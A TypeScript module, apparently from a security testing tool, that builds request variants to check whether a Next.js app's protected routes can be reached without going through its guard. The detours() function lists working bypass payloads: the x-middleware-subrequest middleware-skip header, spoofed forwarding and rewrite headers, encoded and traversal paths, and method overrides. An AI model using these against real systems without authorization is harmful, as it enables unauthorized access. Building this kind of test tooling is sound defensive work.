import type { Asked } from './ask';
import type { Place } from './places';

/** A way to ask for a place that must not open it where the plain way does not. */
export interface Variant {
  readonly name: string;
  readonly of: (place: Place) => Omit<Asked, 'body'>;
}

export const PLAIN: Variant = { name: 'plain', of: ({ method, path }) => ({ method, path, headers: {} }) };

/** Headers that Next's own client, or a proxy before it, would send. */
export const RSC: readonly Variant[] = [
  headers('RSC', { rsc: '1' }),
  headers('RSC prefetch', { rsc: '1', 'next-router-prefetch': '1' }),
  headers('RSC segment', {
    rsc: '1',
    'next-router-prefetch': '1',
    'next-router-segment-prefetch': '/_tree',
  }),
  headers('RSC state tree', {
    rsc: '1',
    'next-router-state-tree': encodeURIComponent('["",{"children":["__PAGE__",{}]},null,null,true]'),
  }),
  path('?_rsc', (given) => `${given}${given.includes('?') ? '&' : '?'}_rsc=1a2b3`),
  path('.rsc', (given) => `${plain(given)}.rsc`),
  path('.txt', (given) => `${plain(given)}.txt`),
  path('.prefetch.rsc', (given) => `${plain(given)}.prefetch.rsc`),
  path('.segments', (given) => `${plain(given)}.segments/_tree.segment.rsc`),
];

const SKIPPED = 'middleware:middleware:middleware:middleware:middleware';

/** Ways around a guard that stands on paths or in one place only. */
export function detours(buildId: string): readonly Variant[] {
  return [
    headers('x-middleware-subrequest', { 'x-middleware-subrequest': SKIPPED }),
    headers('x-middleware-subrequest: proxy', { 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy' }),
    headers('x-nextjs-data', { 'x-nextjs-data': '1' }),
    headers('x-original-url', { 'x-original-url': '/login', 'x-rewrite-url': '/login' }),
    headers('x-matched-path', { 'x-matched-path': '/login', 'x-invoke-path': '/login' }),
    headers('x-forwarded-host', { 'x-forwarded-host': '127.0.0.1', 'x-forwarded-for': '127.0.0.1' }),
    headers('forwarded', { forwarded: 'for=127.0.0.1;host=localhost' }),
    path('/_next/data', (given) => `/_next/data/${buildId}${plain(given)}.json`),
    path('upper case', (given) => plain(given).toUpperCase()),
    path('slash at the end', (given) => `${plain(given)}/`),
    path('two slashes', (given) => `/${given}`),
    path('encoded letter', (given) =>
      given.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
    ),
    path('encoded slash', (given) => given.replace(/(?<=.)\//, '%2f')),
    path('dot segment', (given) => `/.${given}`),
    path('through login', (given) => `/login/..${given}`),
    path('through static', (given) => `/_next/static/..%2f..${given}`),
    path('of a locale', (given) => `/en${given}`),
    path('backslash', (given) => given.replace(/(?<=.)\//, '\\')),
    path('semicolon', (given) => `${plain(given)};.css`),
    path(
      'key in the query',
      (given) => `${given}${given.includes('?') ? '&' : '?'}key=admin&access_token=admin`,
    ),
    method('HEAD'),
    method('OPTIONS'),
    method('POST', { 'next-action': 'a'.repeat(40), 'content-type': 'text/plain' }),
    method('POST', { 'x-http-method-override': 'GET' }),
    method('PUT'),
    method('DELETE'),
  ];
}

function headers(name: string, sent: Readonly<Record<string, string>>): Variant {
  return { name, of: ({ method: verb, path: given }) => ({ method: verb, path: given, headers: sent }) };
}

function path(name: string, change: (given: string) => string): Variant {
  return { name, of: (place) => ({ method: place.method, path: change(place.path), headers: {} }) };
}

function method(verb: string, sent: Readonly<Record<string, string>> = {}): Variant {
  const name = [verb, ...Object.keys(sent)].join(' ');
  return { name, of: (place) => ({ method: verb, path: place.path, headers: sent }) };
}

/** Without its query. */
function plain(given: string): string {
  return given.split('?')[0] ?? '';
}
